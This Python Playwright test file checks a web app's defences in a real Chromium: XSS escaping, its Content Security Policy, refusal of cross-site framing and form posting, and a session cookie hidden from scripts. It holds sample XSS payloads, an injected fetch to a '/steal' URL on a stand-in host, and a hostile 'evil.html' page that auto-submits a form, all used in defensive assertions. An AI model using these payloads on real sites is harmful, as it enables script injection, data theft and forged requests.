"""In a real Chromium: no planted script runs, nothing asks another host, no other site frames or sends anything."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from adapters.web.site.sign_in_pages import new_link
from tests.kit.chromium import PATIENCE, chromium
from tests.kit.serving import Line, served
from tests.security.story import rename_everybody, whole_story
from tests.security.stronghold import ADMIN, CLERK, DUTY, OFFICER, Stronghold, besieged

pytestmark = [pytest.mark.needs("chromium"), pytest.mark.asyncio(loop_scope="module")]


def attack(name: str) -> str:
    """Words that set a mark in the page, and call another host, wherever they run."""
    return f"\"'></p><img src=x onerror=ran()><script>ran()</script>{name[:9]}"


@dataclass
class Watched:
    """A browser that notes every address it asks for, and every mark that a planted script sets."""

    bridge: Stronghold
    line: Line
    browser: Browser
    asked: list[str] = field(default_factory=list)
    ran: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return self.line.url

    async def signed_in(self, who: str) -> Page:
        page = await self.page()
        await page.goto(
            self.url + await new_link(self.bridge.storage, (await self.bridge.person(who)).id, self.bridge.now)
        )
        await page.get_by_role("button", name="Sign in").click()
        await page.wait_for_url("**/chat")
        return page

    async def page(self) -> Page:
        context = await self.browser.new_context()
        context.set_default_timeout(PATIENCE)
        await context.expose_function("ran", lambda *_: self.ran.append("ran"))
        page = await context.new_page()
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("dialog", lambda dialog: self.ran.append(dialog.message))
        page.on("console", lambda said: self.complaints.append(said.text) if said.type == "error" else None)
        return page


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as browser:
        yield browser


@pytest_asyncio.fixture(loop_scope="module")
async def window(browser: Browser, tmp_path: Path) -> AsyncIterator[Watched]:
    async with besieged(tmp_path, public_url="http://127.0.0.1") as bridge, served(bridge.app) as line:
        yield Watched(bridge, line, browser)
        for context in browser.contexts:
            await context.close()


async def test_no_planted_script_runs_and_no_other_host_is_asked(window: Watched) -> None:
    await rename_everybody(window.bridge, attack)
    reference = await whole_story(window.bridge, attack)
    for who in (OFFICER, CLERK, DUTY, ADMIN):
        page = await window.signed_in(who)
        for path in ("/chat", "/cases", f"/cases/{reference}", "/exports", "/", "/nowhere", "/signin/none"):
            await page.goto(window.url + path)
            for folded in await page.locator("details").all():
                await folded.evaluate("e => e.open = true")
        await page.goto(f"{window.url}/chat")
        await page.get_by_label("Your message").fill(attack("typed"))
        await page.get_by_role("button", name="Send").click()
        await expect(page.get_by_label("Your message")).to_have_value("")
    assert window.ran == []
    hosts = {urlsplit(asked).netloc for asked in window.asked}
    assert hosts == {f"127.0.0.1:{window.line.port}"}
    assert len(window.asked) > 50
    assert [c for c in window.complaints if "Content Security Policy" in c] == [], "our own pages keep to the policy"


async def test_were_an_attack_not_escaped_the_policy_would_still_stop_it(window: Watched) -> None:
    page = await window.signed_in(OFFICER)
    await page.evaluate(
        """() => { const made = document.createElement('div');
                   made.innerHTML = '<img src=x onerror=ran()><a href="javascript:ran()" id=bait>x</a>';
                   const script = document.createElement('script'); script.textContent = 'ran()';
                   const far = document.createElement('script'); far.src = 'http://127.0.0.2:9/x.js';
                   document.body.append(made, script, far); }"""
    )
    await page.evaluate("document.querySelector('#bait').click()")
    refused = await page.evaluate(
        "() => fetch('http://127.0.0.2:9/steal?' + document.title).then(() => 'sent', () => 'refused')"
    )
    assert refused == "refused"
    assert window.ran == []
    assert len([c for c in window.complaints if "Content Security Policy" in c]) >= 4


async def test_another_site_can_neither_frame_nor_read_nor_send_a_form(window: Watched, tmp_path: Path) -> None:
    page = await window.signed_in(OFFICER)
    before = len(window.bridge.inbox())
    evil = tmp_path / "evil.html"
    evil.write_text(
        f"""<iframe id=frame src="{window.url}/chat"></iframe>
            <form id=form method=post action="{window.url}/chat" target=frame2>
            <input name=text value=planted><input name=once value=aaaaaaaaaaaaaaaaaaaa></form>
            <iframe name=frame2></iframe>
            <script>document.querySelector('#form').submit()</script>""",
        encoding="utf-8",
    )
    await page.goto(evil.as_uri())
    await page.wait_for_load_state("networkidle")
    for frame in page.frames[1:]:
        assert "Your message" not in await frame.content()
    read = await page.evaluate(
        f"() => fetch('{window.url}/cases', {{credentials: 'include'}}).then(r => r.text(), () => '')"
    )
    assert read == ""
    assert len(window.bridge.inbox()) == before


async def test_the_session_is_in_no_place_that_a_script_reaches(window: Watched) -> None:
    page = await window.signed_in(OFFICER)
    (cookie,) = await page.context.cookies()
    held = await page.evaluate(
        "() => document.cookie + JSON.stringify(localStorage) + JSON.stringify(sessionStorage) + location.href + "
        "document.documentElement.outerHTML"
    )
    assert cookie["value"] not in held
